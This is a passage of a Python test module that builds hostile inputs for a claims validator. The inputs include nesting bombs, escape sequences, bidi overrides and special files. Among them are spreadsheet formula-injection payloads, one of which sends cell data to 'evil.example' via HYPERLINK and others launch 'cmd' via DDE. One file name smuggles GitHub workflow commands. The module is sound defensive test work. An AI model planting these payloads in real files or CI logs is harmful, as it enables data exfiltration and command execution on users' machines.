"""Hostile inputs for ``iran-russia-claims validate`` and ``validate()`` (issue 16).

Each :class:`Case` is a small named input with a builder that writes its file(s) into a given
folder and says how to run it: ``validate`` on the command line (``python -m iran_russia_claims
validate ARGS --format F``), or a Python script calling the API on a hostile DataFrame or
record. The files are small on disk (a few stay under ~2 MB); what they hold is expensive to
read naively: dictionary and compression bombs, aliases, deep nesting, huge numbers, sparse
keys that become wide tables, escapes, surrogates, special files.

Each case declares the outcome the README documents, decided from the README and the issue, not
from what the code does today: exit 0 for a valid input, 1 for data that breaks a rule, 2 for an
input that cannot be read (or bad usage), and the problems the JSON report must hold (rule, row,
column, and the file named). The policy where the README is silent:

- A value a reader can parse within its limits but of the wrong kind is a located rule problem
  (``type``, ``no_extra_fields``, a column's rule): exit 1.
- What a reader cannot take within its limits (a record over 1 MiB, as for JSON and JSON Lines;
  a nesting deeper than a parser follows; a special file; text that is not valid Unicode, as
  the Arrow readers already report "the text is not UTF-8") is ``readable``: exit 2, naming the
  file, and the row where the record is known.
- Where two fixes are equally documented (refuse a bomb as unreadable, or read it in bounded
  memory and report its rule), a case lists both outcomes and says why; memory and time are
  bounded in either case.

Rows follow the README: a CSV's header is row 1; JSON Lines rows are lines; JSON, YAML and
Parquet records count from 1; a DataFrame's row is its index label plus 1.
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import stat
import textwrap
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from functools import cache
from pathlib import Path
from typing import Any

import yaml

REPO = Path(__file__).resolve().parents[2]
DATASET = REPO / "dataset"
COLUMNS = (
    "id",
    "source_id",
    "section",
    "start",
    "end",
    "span_sha256",
    "theme",
    "actors",
    "kind",
    "assertion",
    "confidence",
    "confidence_band",
    "hedges",
)
#: ``Expect.file`` default: the problem names the case's first input.
FIRST = "<first input>"
MiB = 1024 * 1024


@dataclass(frozen=True)
class Expect:
    """A problem the JSON report must hold: its rule (or one of several), and where given, its
    row and column; ``file`` is the path it must name (FIRST: the first input; None: any)."""

    rule: str | tuple[str, ...]
    row: int | None = None
    column: str | None = None
    file: str | None = FIRST

    def rules(self) -> tuple[str, ...]:
        return (self.rule,) if isinstance(self.rule, str) else self.rule

    def __str__(self) -> str:
        parts = ["|".join(self.rules())]
        if self.row is not None:
            parts.append(f"row={self.row}")
        if self.column is not None:
            parts.append(f"column={self.column!r}")
        return " ".join(parts)


@dataclass(frozen=True)
class Outcome:
    """One documented outcome: the exit code, the problems of the JSON report, and text that
    stderr must hold (for the runs that stop before a report, e.g. a bad ``--dataset``)."""

    exit: int
    problems: tuple[Expect, ...] = ()
    stderr_has: tuple[str, ...] = ()
    #: (rule, n): the report counts at least n problems of the rule (listed or not).
    counts: tuple[tuple[str, int], ...] = ()

    def __str__(self) -> str:
        text = f"exit {self.exit}"
        if self.problems:
            text += " with " + ", ".join(map(str, self.problems))
        if self.stderr_has:
            text += " and stderr naming " + ", ".join(map(repr, self.stderr_has))
        if self.counts:
            text += " counting " + ", ".join(f">= {n} {rule}" for rule, n in self.counts)
        return text


@dataclass(frozen=True)
class Invocation:
    """How to run a built case: ``validate``'s arguments (relative to the case folder), the
    claims files among them as the report names them, or an API script to run instead."""

    args: tuple[str | bytes, ...] = ()
    inputs: tuple[str, ...] = ()
    script: str | None = None
    #: The link tables' files (``--dyads``, ``--relations``, ``--coding``): no report of their
    #: own, but their problems name them (and so may the ``github`` format's commands).
    links: tuple[str, ...] = ()


@dataclass(frozen=True)
class Case:
    name: str
    group: str
    build: Callable[[Path], Invocation]
    outcomes: tuple[Outcome, ...]
    why: str
    #: ``--format`` values to run; every run is checked, the json one for the problems.
    formats: tuple[str, ...] = ("json",)
    #: Whether the run ends with a report (False: it stops on a bad ``--dataset``, stderr only).
    report: bool = True
    #: Whether the inputs' names are compared exactly (False: a name that is not UTF-8).
    exact_names: bool = True
    #: Why the case cannot run here (None: it runs).
    skip: str | None = None
    timeout: float = 60.0
    #: API cases: bytes of hostile data built in memory, for the memory allowance.
    input_bytes: int | None = None
    #: Extra checks on the case folder after the runs: failures as text.
    after: Callable[[Path], list[str]] | None = None


CASES: list[Case] = []


def case(
    name: str,
    group: str,
    outcomes: Outcome | Iterable[Outcome],
    why: str,
    **options: Any,
) -> Callable[[Callable[[Path], Invocation]], Callable[[Path], Invocation]]:
    """Register the decorated builder as a case."""

    def register(build: Callable[[Path], Invocation]) -> Callable[[Path], Invocation]:
        assert all(c.name != name for c in CASES), name
        found = (outcomes,) if isinstance(outcomes, Outcome) else tuple(outcomes)
        CASES.append(Case(name, group, build, found, why, **options))
        return build

    return register


def ok() -> Outcome:
    return Outcome(0)


def broken(*problems: Expect) -> Outcome:
    return Outcome(1, problems)


def unreadable(row: int | None = None, column: str | None = None, file: str | None = FIRST):
    return Outcome(2, (Expect("readable", row, column, file),))


ALL_FORMATS = ("json", "text", "github", "junit")


# --- valid data to start from -------------------------------------------------------------


@cache
def _sections() -> list[tuple[str, int, int]]:
    sources = yaml.safe_load((DATASET / "sources.yaml").read_text(encoding="utf-8"))
    return [(s["slug"], s["start"], s["end"]) for s in sources["sources"][0]["sections"]]


def records(n: int = 3) -> list[dict[str, Any]]:
    """``n`` distinct valid claims of the shipped collection (its registry is the default)."""
    sections = _sections()
    out = []
    for i in range(n):
        slug, first, last = sections[i % len(sections)]
        start = first + (i // len(sections)) % (last - first - 60)
        out.append(
            {
                "id": f"IRR-{i + 1:04d}",
                "source_id": "iran-russia-relations",
                "section": slug,
                "start": start,
                "end": start + 40,
                "span_sha256": f"{i:064x}",
                "theme": "strategic_alignment",
                "actors": ["IRN", "RUS"],
                "kind": "descriptive",
                "assertion": f"Claim {i + 1} says that Iran and Russia keep working together.",
                "confidence": 0.9,
                "confidence_band": "very_likely",
                "hedges": [],
            }
        )
    return out


def changed(n: int, changes: dict[int, dict[str, Any]]) -> list[dict[str, Any]]:
    """``n`` valid records, record i (0-based) updated with ``changes[i]``."""
    rows = records(n)
    for i, update in changes.items():
        rows[i].update(update)
    return rows


def _cell(value: Any) -> str:
    if isinstance(value, list):
        return json.dumps(value, ensure_ascii=False, separators=(",", ":"))
    if isinstance(value, float):
        return repr(value)
    return "" if value is None else str(value)


def csv_text(rows: list[dict[str, Any]], columns: Iterable[str] = COLUMNS) -> str:
    columns = list(columns)
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(columns)
    for row in rows:
        writer.writerow([_cell(row.get(c)) for c in columns])
    return out.getvalue()


def write(path: Path, data: str | bytes) -> None:
    if isinstance(data, str):
        data = data.encode("utf-8")
    path.write_bytes(data)


OPTIONS_WITH_VALUES = (
    "--dataset",
    "--collection",
    "--engine",
    "--input-format",
    "--summary",
    "--source",
    "--max-problems",
)
#: The options naming a link table's file, checked against the one claims file.
LINK_OPTIONS = ("--dyads", "--relations", "--coding")


def cli(*args: str | bytes) -> Invocation:
    """Run ``validate`` on ``args``; the claims files are the arguments not starting with -
    (a link option's value is a link file)."""
    inputs, links, skip, link = [], [], False, False
    for arg in args:
        if skip:
            skip = False
            if link:
                links.append(os.fsdecode(arg))
            continue
        text = os.fsdecode(arg)
        if text.startswith("--"):
            link = text in LINK_OPTIONS
            skip = text in OPTIONS_WITH_VALUES or link
            continue
        inputs.append(text)
    return Invocation(tuple(args), tuple(inputs), links=tuple(links))


def json_text(rows: list[Any], raw: dict[str, str] | None = None) -> str:
    """A JSON array of ``rows``; each ``"TOKEN"`` of ``raw`` replaced by raw JSON text."""
    text = json.dumps(rows, indent=1, ensure_ascii=False)
    for token, value in (raw or {}).items():
        assert f'"{token}"' in text, token
        text = text.replace(f'"{token}"', value)
    return text + "\n"


def jsonl_text(rows: list[Any], raw: dict[str, str] | None = None) -> str:
    text = "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows)
    for token, value in (raw or {}).items():
        assert f'"{token}"' in text, token
        text = text.replace(f'"{token}"', value)
    return text


def yaml_text(rows: list[Any], raw: dict[str, str] | None = None) -> str:
    """``claims:`` and the records in block style; each ``TOKEN`` scalar of ``raw`` replaced by
    raw YAML text."""
    text = yaml.safe_dump({"claims": rows}, sort_keys=False, allow_unicode=True, width=1 << 20)
    for token, value in (raw or {}).items():
        assert token in text, token
        text = text.replace(token, value)
    return text


def parquet_table(rows: list[dict[str, Any]]) -> Any:
    import pyarrow as pa

    types = {
        "start": pa.int64(),
        "end": pa.int64(),
        "confidence": pa.float64(),
        "actors": pa.list_(pa.string()),
        "hedges": pa.list_(pa.string()),
    }
    schema = pa.schema([(c, types.get(c, pa.string())) for c in COLUMNS])
    return pa.Table.from_pylist(rows, schema=schema)


def nested(depth: int, open_: str = "[", close: str = "]", inner: str = "") -> str:
    return open_ * depth + inner + close * depth


HUGE_INT = "9" * 5000  # Python refuses int <-> str beyond 4300 digits by default


# --- CSV -------------------------------------------------------------------------------------


@case("csv_valid", "csv", ok(), "control: three valid claims", formats=ALL_FORMATS)
def _(d: Path) -> Invocation:
    write(d / "claims.csv", csv_text(records()))
    return cli("claims.csv")


@case(
    "csv_nul_mid_file",
    "csv",
    [
        unreadable(),
        broken(Expect("assertion_no_control_chars", 452, "assertion")),
    ],
    "a NUL byte in a cell past the first 64 KiB; a NUL in the first 64 KiB makes the file "
    "'binary' (readable); either the same verdict, or the control character rule at its row",
)
def _(d: Path) -> Invocation:
    rows = changed(500, {450: {"assertion": "NULTOKEN, a claim with a NUL in it."}})
    data = csv_text(rows).encode().replace(b"NULTOKEN", b"nul\x00here")
    write(d / "claims.csv", data)
    return cli("claims.csv")


@case(
    "csv_unclosed_quote",
    "csv",
    unreadable(row=5),
    "a quote opened in row 5 is never closed: the rest of the file is one cell",
)
def _(d: Path) -> Invocation:
    rows = changed(300, {3: {"assertion": "QUOTETOKEN"}})
    write(d / "claims.csv", csv_text(rows).replace("QUOTETOKEN", '"never closed, ...'))
    return cli("claims.csv")


@case(
    "csv_row_over_16mib",
    "csv",
    [unreadable(row=3), broken(Expect("assertion_length", 3, "assertion"))],
    "row 3 holds a 17 MB quoted cell, over the 16 MiB row limit csv.py documents (this file is "
    "17 MB: the limit cannot be reached with less); refused, or read (the README documents no "
    "limit) with its rule found, in bounded memory either way",
)
def _(d: Path) -> Invocation:
    rows = changed(3, {1: {"assertion": "BIGTOKEN"}})
    head, tail = csv_text(rows).split("BIGTOKEN")
    with (d / "claims.csv").open("wb") as f:
        f.write(head.encode() + b'"')
        for _ in range(17):
            f.write(b"a" * MiB)
        f.write(b'"' + tail.encode())
    return cli("claims.csv")


@case(
    "csv_1mb_cell",
    "csv",
    broken(Expect("assertion_length", 2, "assertion")),
    "a 1.5 MB assertion: a readable row whose assertion is too long",
)
def _(d: Path) -> Invocation:
    rows = changed(3, {0: {"assertion": "x" * 1_500_000}})
    write(d / "claims.csv", csv_text(rows))
    return cli("claims.csv")


@case(
    "csv_million_cells_row",
    "csv",
    broken(Expect("no_extra_fields", 3)),
    "row 3 has a million cells: reported as a row with too many cells",
)
def _(d: Path) -> Invocation:
    lines = csv_text(records(3)).splitlines(keepends=True)
    lines[2] = lines[2].rstrip("\n") + "," * 1_000_000 + "\n"
    write(d / "claims.csv", "".join(lines))
    return cli("claims.csv")


@case(
    "csv_8000_columns",
    "csv",
    broken(Expect("no_extra_fields", column="x0001")),
    "8000 extra columns beside the claim columns",
)
def _(d: Path) -> Invocation:
    extra = [f"x{i:04d}" for i in range(1, 8001)]
    rows = [dict(r, **dict.fromkeys(extra, "1")) for r in records(3)]
    write(d / "claims.csv", csv_text(rows, [*COLUMNS, *extra]))
    return cli("claims.csv")


@case(
    "csv_header_over_64k",
    "csv",
    unreadable(row=1),
    "a header row of 70 KB (one column name): over the header limit",
)
def _(d: Path) -> Invocation:
    text = csv_text(records(3), [*COLUMNS, "h" * 70_000])
    write(d / "claims.csv", text)
    return cli("claims.csv")


@case(
    "csv_header_same_name_20000_times",
    "csv",
    broken(Expect("no_extra_fields", 1, "id")),
    "the header names 'id' 20000 times (60 KB); each repeat is a problem, and finding them "
    "must not take quadratic time",
)
def _(d: Path) -> Invocation:
    header = ",".join([*COLUMNS, *["id"] * 20_000])
    body = csv_text(records(2)).split("\n", 1)[1]
    body = "".join(line + "," * 20_000 + "\n" for line in body.splitlines())
    write(d / "claims.csv", header + "\n" + body)
    return cli("claims.csv")


@case(
    "csv_formula_injection",
    "csv",
    broken(
        Expect("id_pattern", 2, "id"),
        Expect("assertion_no_formula", 3, "assertion"),
        Expect("assertion_no_formula", 4, "assertion"),
        Expect("assertion_no_formula", 5, "assertion"),
    ),
    "cells a spreadsheet would run as formulas",
    formats=("json", "text"),
)
def _(d: Path) -> Invocation:
    payload = '=HYPERLINK("http://evil.example/?"&A1,"click") and more words here'
    rows = changed(
        4,
        {
            0: {"id": "=1+cmd|' /C calc'!A0"},
            1: {"assertion": payload},
            2: {"assertion": "@SUM(1+1)*cmd|' /C calc'!A0 is a formula in a claim"},
            3: {"assertion": "+1+1 is what this assertion starts with, a formula"},
        },
    )
    write(d / "claims.csv", csv_text(rows))
    return cli("claims.csv")


@case("csv_mixed_line_endings", "csv", ok(), "CRLF, LF and a lone CR as line ends, all valid")
def _(d: Path) -> Invocation:
    lines = csv_text(records(4)).splitlines()
    write(
        d / "claims.csv",
        lines[0] + "\r\n" + lines[1] + "\n" + lines[2] + "\r" + lines[3] + "\r\n" + lines[4] + "\n",
    )
    return cli("claims.csv")


@case("csv_utf8_bom", "csv", ok(), "a UTF-8 byte order mark before a valid file")
def _(d: Path) -> Invocation:
    write(d / "claims.csv", b"\xef\xbb\xbf" + csv_text(records()).encode())
    return cli("claims.csv")


@case(
    "csv_double_bom",
    "csv",
    broken(Expect("required", column="id")),
    "two UTF-8 byte order marks: the second is part of the first column's name, so 'id' is missing",
)
def _(d: Path) -> Invocation:
    write(d / "claims.csv", b"\xef\xbb\xbf" * 2 + csv_text(records()).encode())
    return cli("claims.csv")


@case("csv_utf16_bom", "csv", unreadable(), "UTF-16 text with a byte order mark")
def _(d: Path) -> Invocation:
    write(d / "claims.csv", csv_text(records()).encode("utf-16"))
    return cli("claims.csv")


@case("csv_utf32_be_bom", "csv", unreadable(), "UTF-32 big-endian text with a byte order mark")
def _(d: Path) -> Invocation:
    write(d / "claims.csv", b"\x00\x00\xfe\xff" + csv_text(records()).encode("utf-32-be"))
    return cli("claims.csv")


@case(
    "csv_invalid_utf8_mid_file",
    "csv",
    unreadable(row=452),
    "a Latin-1 byte in row 452, past the first 64 KiB: not UTF-8, located",
)
def _(d: Path) -> Invocation:
    rows = changed(500, {450: {"assertion": "LATINTOKEN is a claim with a Latin-1 byte."}})
    write(d / "claims.csv", csv_text(rows).encode().replace(b"LATINTOKEN", b"caf\xe9"))
    return cli("claims.csv")


@case(
    "csv_escape_sequences_in_values",
    "csv",
    broken(
        Expect("assertion_no_control_chars", 2, "assertion"),
        Expect("hedges_words", 2, "hedges"),
        Expect("theme_vocabulary", 3, "theme"),
    ),
    "terminal escapes (clear screen, colours, an OSC 8 link, a window title) in values: each "
    "a rule problem, and none may reach the terminal raw",
    formats=ALL_FORMATS,
)
def _(d: Path) -> Invocation:
    rows = changed(
        3,
        {
            0: {
                "assertion": "\x1b[2J\x1b[1;31mIran and Russia\x1b[0m agree on everything.",
                "hedges": ["\x1b]8;;http://evil.example/\x07likely\x1b]8;;\x07"],
            },
            1: {"theme": "\x1b]0;pwned\x07energy"},
        },
    )
    write(d / "claims.csv", csv_text(rows))
    return cli("claims.csv")


ESCAPED_NAME = "\x1b[31mevil\x1b[0m\x1b]0;title\x07"


@case(
    "csv_escape_in_column_name",
    "csv",
    broken(Expect("no_extra_fields", column=ESCAPED_NAME)),
    "a column named with terminal escapes: reported by its real name (JSON), shown escaped",
    formats=ALL_FORMATS,
)
def _(d: Path) -> Invocation:
    rows = [dict(r, **{ESCAPED_NAME: "x"}) for r in records()]
    write(d / "claims.csv", csv_text(rows, [*COLUMNS, ESCAPED_NAME]))
    return cli("claims.csv")


BIDI = "\u202e"


@case(
    "csv_bidi_and_invisible_everywhere",
    "csv",
    broken(
        Expect("id_pattern", 2, "id"),
        Expect("assertion_no_hidden_chars", 3, "assertion"),
        Expect("assertion_no_hidden_chars", 4, "assertion"),
        Expect("assertion_no_hidden_chars", 5, "assertion"),
        Expect("assertion_no_hidden_chars", 6, "assertion"),
        Expect("hedges_no_hidden_chars", 7, "hedges"),
        Expect("no_extra_fields", column=f"no{BIDI}tes"),
    ),
    "a right-to-left override (U+202E) in an id, assertions, a hedge and a column name; "
    "zero-width space, word joiner and BOM (U+200B, U+2060, U+FEFF) hidden in assertions: "
    "the issue says they pass every rule, they must not",
    formats=ALL_FORMATS,
)
def _(d: Path) -> Invocation:
    rows = changed(
        6,
        {
            0: {"id": f"IRR-0001{BIDI}"},
            1: {"assertion": f"Iran and Russia {BIDI}ecnailla na mrof{BIDI} today."},
            2: {"assertion": "Iran and Russia form an al\u200bliance today, it says."},
            3: {"assertion": "Iran and Russia form an al\u2060liance today, it says."},
            4: {"assertion": "Iran and Russia form an al\ufeffliance today, it says."},
            5: {"hedges": [f"lik{BIDI}ely"]},
        },
    )
    rows = [dict(r, **{f"no{BIDI}tes": "x"}) for r in rows]
    write(d / "claims.csv", csv_text(rows, [*COLUMNS, f"no{BIDI}tes"]))
    return cli("claims.csv")


@case(
    "csv_c1_controls",
    "csv",
    broken(
        Expect("assertion_no_control_chars", 2, "assertion"),
        Expect("assertion_no_control_chars", 3, "assertion"),
    ),
    "C1 controls (U+009B, the one-byte CSI, and U+0085, NEL) in assertions",
    formats=("json", "text"),
)
def _(d: Path) -> Invocation:
    rows = changed(
        3,
        {
            0: {"assertion": "Iran and Russia \x9b31m agree on a great many things."},
            1: {"assertion": "Iran and Russia\x85::error::agree on a great many things."},
        },
    )
    write(d / "claims.csv", csv_text(rows))
    return cli("claims.csv")


@case(
    "csv_million_blank_rows",
    "csv",
    broken(Expect("row_not_empty", 3)),
    "a valid record then a million empty lines (1 MB): one problem for the trailing rows",
)
def _(d: Path) -> Invocation:
    write(d / "claims.csv", csv_text(records(1)) + "\n" * 1_000_000)
    return cli("claims.csv")


@case(
    "csv_500k_one_cell_rows",
    "csv",
    broken(Expect("required", 2)),
    "500,000 rows of one cell each (1 MB): each row has too few cells",
)
def _(d: Path) -> Invocation:
    write(d / "claims.csv", csv_text([]) + "x\n" * 500_000)
    return cli("claims.csv")


@case(
    "csv_deeply_nested_list_cell",
    "csv",
    broken(Expect("type", 2, "hedges")),
    "a hedges cell of 200,000 nested brackets: not a JSON array of strings",
)
def _(d: Path) -> Invocation:
    rows = changed(2, {0: {"hedges": "DEEPTOKEN"}})
    write(d / "claims.csv", csv_text(rows).replace("DEEPTOKEN", nested(200_000)))
    return cli("claims.csv")


@case(
    "csv_extreme_numbers",
    "csv",
    broken(
        Expect("confidence_finite", 2, "confidence"),
        Expect("type", 3, "start"),
        Expect("type", 4, "end"),
        Expect("confidence_range", 5, "confidence"),
    ),
    "1e999 (infinite), a 5000-digit start, an end below int64, and a confidence written with "
    "5000 digits (a number, 0.0: out of range)",
)
def _(d: Path) -> Invocation:
    rows = changed(
        4,
        {
            0: {"confidence": "1e999"},
            1: {"start": HUGE_INT},
            2: {"end": "-9223372036854775809"},
            3: {"confidence": "0." + HUGE_INT + "e-" + HUGE_INT},
        },
    )
    write(d / "claims.csv", csv_text(rows))
    return cli("claims.csv")


@case(
    "csv_25000_rows_every_rule_broken",
    "csv",
    Outcome(
        1,
        (Expect("id_pattern", 2, "id"),),
        counts=(("id_pattern", 25_000), ("confidence_range", 25_000)),
    ),
    "25,000 rows (1.7 MB) each breaking a dozen rules: 300,000 problems counted, 1000 listed, "
    "in bounded memory",
)
def _(d: Path) -> Invocation:
    row = 'x,Not A Slug,Not A Slug,-1,-2,abc,weather,[],sort,=bad,2.5,band,[""]\n'
    write(d / "claims.csv", csv_text([]) + row * 25_000)
    return cli("claims.csv")


@case("csv_directory", "fs", unreadable(), "a directory named claims.csv")
def _(d: Path) -> Invocation:
    (d / "claims.csv").mkdir()
    write(d / "claims.csv" / "claims.csv", csv_text(records()))
    return cli("claims.csv")


# --- special files and hostile names ---------------------------------------------------------


def _fifo(path: Path) -> None:
    os.mkfifo(path)


NO_FIFO = None if hasattr(os, "mkfifo") else "no FIFOs here"


@case(
    "fs_fifo_csv",
    "fs",
    unreadable(),
    "a FIFO named claims.csv with no writer: correct is to refuse a file that is not a regular "
    "file (readable), promptly, never to wait for a writer",
    skip=NO_FIFO,
    timeout=30,
)
def _(d: Path) -> Invocation:
    _fifo(d / "claims.csv")
    return cli("claims.csv")


def _symlink(target: str, link: Path) -> None:
    link.symlink_to(target)


@case(
    "fs_dev_zero_csv",
    "fs",
    unreadable(),
    "claims.csv is a symlink to /dev/zero (size 0, endless): not a regular file, refused",
    timeout=30,
)
def _(d: Path) -> Invocation:
    _symlink("/dev/zero", d / "claims.csv")
    return cli("claims.csv")


@case(
    "fs_dev_zero_csv_polars_engine",
    "fs",
    unreadable(),
    "the same with --engine polars, which reads the whole file first",
    timeout=30,
)
def _(d: Path) -> Invocation:
    _symlink("/dev/zero", d / "claims.csv")
    return cli("claims.csv", "--engine", "polars")


@case(
    "fs_dev_urandom_parquet_polars_engine",
    "fs",
    unreadable(),
    "claims.parquet is a symlink to /dev/urandom, read with --engine polars",
    timeout=30,
)
def _(d: Path) -> Invocation:
    _symlink("/dev/urandom", d / "claims.parquet")
    return cli("claims.parquet", "--engine", "polars")


@case(
    "fs_proc_file_size_zero",
    "fs",
    broken(Expect("required", column="id")),
    "claims.csv links to /proc/self/status: a regular file whose size reads 0 but which holds "
    "text; read as CSV it has no 'id' column (trusting st_size == 0 says 'no claims' instead)",
)
def _(d: Path) -> Invocation:
    _symlink("/proc/self/status", d / "claims.csv")
    return cli("claims.csv")


@case(
    "fs_unreadable_file",
    "fs",
    unreadable(),
    "a file without read permission",
    skip="running as root: permissions do not stop reading"
    if hasattr(os, "geteuid") and os.geteuid() == 0
    else None,
)
def _(d: Path) -> Invocation:
    path = d / "claims.csv"
    write(path, csv_text(records()))
    path.chmod(0)
    return cli("claims.csv")


@case(
    "name_escape_sequences",
    "names",
    ok(),
    "a valid file whose name holds terminal escapes (clear screen, window title, a link)",
    formats=ALL_FORMATS,
)
def _(d: Path) -> Invocation:
    name = "claims\x1b[2J\x1b]0;owned\x07\x1b]8;;http:evil.example\x07.csv"
    write(d / name, csv_text(records()))
    return cli(name)


WORKFLOW_NAME = "a\n::error file=evil.py,line=1::pwned\n::add-mask::x\nclaims.csv"


@case(
    "name_newline_workflow_command",
    "names",
    broken(Expect("confidence_range", 2, "confidence")),
    "a file name holding line breaks and GitHub workflow commands: no output line may start a "
    "workflow command the name smuggles in",
    formats=ALL_FORMATS,
)
def _(d: Path) -> Invocation:
    write(d / WORKFLOW_NAME, csv_text(changed(2, {0: {"confidence": 1.5}})))
    return cli(WORKFLOW_NAME)


@case(
    "name_leading_colons",
    "names",
    ok(),
    "a valid file named '::warning::claims.csv': the text report's first line would start a "
    "workflow command in a GitHub runner's log",
    formats=ALL_FORMATS,
)
def _(d: Path) -> Invocation:
    write(d / "::warning::claims.csv", csv_text(records()))
    return cli("::warning::claims.csv")


@case(
    "name_bidi_override",
    "names",
    ok(),
    "a valid file named with a right-to-left override (claims<U+202E>vsc.json shows as "
    "claimsnosj.csv)",
    formats=ALL_FORMATS,
)
def _(d: Path) -> Invocation:
    name = f"claims{BIDI}vsc.json"
    write(d / name, json_text(records()))
    return cli(name)


@case(
    "name_not_utf8",
    "names",
    ok(),
    "a valid file whose name is not UTF-8 (byte 0xff): Python sees a lone surrogate",
    formats=ALL_FORMATS,
    exact_names=False,
)
def _(d: Path) -> Invocation:
    name = b"claims-\xff.csv"
    write(Path(os.fsdecode(os.path.join(os.fsencode(d), name))), csv_text(records()))
    return cli(name)


# --- JSON --------------------------------------------------------------------------------------


@case("json_valid", "json", ok(), "control: three valid claims", formats=ALL_FORMATS)
def _(d: Path) -> Invocation:
    write(d / "claims.json", json_text(records()))
    return cli("claims.json")


@case(
    "json_100k_nested_arrays",
    "json",
    unreadable(),
    "the file is 100,000 nested arrays: deeper than a parser follows",
)
def _(d: Path) -> Invocation:
    write(d / "claims.json", nested(100_000))
    return cli("claims.json")


@case(
    "json_deeply_nested_field",
    "json",
    [unreadable(row=1), broken(Expect("type", 1, "hedges"))],
    "record 1's hedges nest 100,000 arrays: refused as too deep, or a wrong type",
)
def _(d: Path) -> Invocation:
    rows = changed(2, {0: {"hedges": "DEEPTOKEN"}})
    write(d / "claims.json", json_text(rows, {"DEEPTOKEN": nested(100_000)}))
    return cli("claims.json")


@case(
    "json_deeply_nested_extra_field",
    "json",
    [unreadable(row=2), broken(Expect("no_extra_fields", column="notes"))],
    "record 2 has an extra field of 50,000 nested objects: refused as too deep, or named as "
    "an extra field (which needs no reading of its value)",
)
def _(d: Path) -> Invocation:
    rows = changed(2, {1: {"notes": "DEEPTOKEN"}})
    write(d / "claims.json", json_text(rows, {"DEEPTOKEN": nested(50_000, '{"a":', "}", "1")}))
    return cli("claims.json")


@case(
    "json_5000_digit_integer",
    "json",
    [broken(Expect("type", 1, "start")), unreadable(row=1)],
    "start is a 5000-digit integer: valid JSON, too large for int64 (a type problem), or "
    "refused as a number no reader takes; Python cannot even print it by default",
)
def _(d: Path) -> Invocation:
    rows = changed(2, {0: {"start": "INTTOKEN"}})
    write(d / "claims.json", json_text(rows, {"INTTOKEN": HUGE_INT}))
    return cli("claims.json")


@case(
    "json_nonfinite_literals",
    "json",
    broken(
        Expect("confidence_finite", 1, "confidence"),
        Expect("confidence_finite", 2, "confidence"),
        Expect("confidence_finite", 3, "confidence"),
    ),
    "confidence 1e999 (overflows to infinity), NaN and -Infinity (which Python's json accepts)",
    formats=("json", "text"),
)
def _(d: Path) -> Invocation:
    rows = changed(3, {0: {"confidence": "T1"}, 1: {"confidence": "T2"}, 2: {"confidence": "T3"}})
    write(d / "claims.json", json_text(rows, {"T1": "1e999", "T2": "NaN", "T3": "-Infinity"}))
    return cli("claims.json")


@case(
    "json_duplicate_keys",
    "json",
    broken(Expect("no_extra_fields", 1, "id")),
    "record 1 gives 'id' twice",
)
def _(d: Path) -> Invocation:
    text = json_text(records(2)).replace('"id": "IRR-0001"', '"id": "IRR-0001", "id": "x"', 1)
    write(d / "claims.json", text)
    return cli("claims.json")


@case(
    "json_600kb_key",
    "json",
    broken(Expect("no_extra_fields")),
    "record 1 has a field whose name is 600 KB long",
)
def _(d: Path) -> Invocation:
    rows = changed(2, {0: {"k" * 600_000: 1}})
    write(d / "claims.json", json_text(rows))
    return cli("claims.json")


@case("json_top_level_scalar", "json", unreadable(), "the file is the number 42")
def _(d: Path) -> Invocation:
    write(d / "claims.json", "42\n")
    return cli("claims.json")


@case(
    "json_100k_empty_objects",
    "json",
    broken(Expect("row_not_empty", 1)),
    "100,000 empty objects (300 KB): one problem for the empty rows",
)
def _(d: Path) -> Invocation:
    write(d / "claims.json", "[" + ",".join(["{}"] * 100_000) + "]")
    return cli("claims.json")


@case(
    "json_100k_nulls",
    "json",
    Outcome(1, (Expect("type", 1),), counts=(("type", 100_000),)),
    "100,000 nulls (500 KB): each record is not an object",
)
def _(d: Path) -> Invocation:
    write(d / "claims.json", "[" + ",".join(["null"] * 100_000) + "]")
    return cli("claims.json")


SURROGATE_WHY = (
    "a lone surrogate escape (\\ud800) in an assertion: not valid Unicode text, as bytes that "
    "are not UTF-8 are (readable, located); the next file must still be checked"
)


def _good_second(d: Path) -> str:
    write(d / "good.csv", csv_text(records()))
    return "good.csv"


@case(
    "json_lone_surrogate",
    "json",
    unreadable(row=1, column="assertion"),
    SURROGATE_WHY,
    formats=ALL_FORMATS,
)
def _(d: Path) -> Invocation:
    rows = changed(2, {0: {"assertion": "SURTOKEN"}})
    text = json_text(rows, {"SURTOKEN": '"Iran and Russia \\ud800 are close partners."'})
    write(d / "claims.json", text)
    return cli("claims.json", _good_second(d))


@case(
    "json_lone_surrogate_in_key",
    "json",
    unreadable(row=2),
    "record 2 has a field named by a lone surrogate (\\udc80)",
    formats=("json", "text"),
)
def _(d: Path) -> Invocation:
    rows = changed(2, {1: {"KEYTOKEN": 1}})
    write(d / "claims.json", json_text(rows).replace('"KEYTOKEN"', '"\\udc80"'))
    return cli("claims.json", _good_second(d))


@case(
    "json_surrogate_escape_byte",
    "json",
    unreadable(row=1),
    "a field named '\\udc9b[2J': Python writes U+DC9B to a C.UTF-8 stdout (surrogateescape) as "
    "the raw byte 0x9B, the one-byte CSI: not UTF-8, and a clear-screen on 8-bit terminals",
    formats=("json", "text"),
)
def _(d: Path) -> Invocation:
    rows = changed(2, {0: {"KEYTOKEN": 1}})
    write(d / "claims.json", json_text(rows).replace('"KEYTOKEN"', '"\\udc9b[2J"'))
    return cli("claims.json")


@case(
    "json_surrogate_pair_is_valid",
    "json",
    ok(),
    "control: an escaped surrogate pair (\\ud83d\\ude00) is one valid character",
)
def _(d: Path) -> Invocation:
    rows = changed(2, {0: {"assertion": "SURTOKEN"}})
    text = json_text(rows, {"SURTOKEN": '"Iran and Russia are close partners \\ud83d\\ude00."'})
    write(d / "claims.json", text)
    return cli("claims.json")


@case(
    "json_escape_in_id",
    "json",
    broken(Expect("id_pattern", 1, "id")),
    "an id that starts with an escape sequence",
    formats=ALL_FORMATS,
)
def _(d: Path) -> Invocation:
    write(d / "claims.json", json_text(changed(2, {0: {"id": "\x1b[31mIRR-0001\x1b[0m"}})))
    return cli("claims.json")


@case(
    "json_invisible_in_assertions",
    "json",
    broken(*[Expect("assertion_no_hidden_chars", r, "assertion") for r in (1, 2, 3, 4, 5)]),
    "U+202E, U+200B, U+2060, U+FEFF and U+2066 hidden in assertions (issue 16 d): refused by "
    "the rule that names hidden characters",
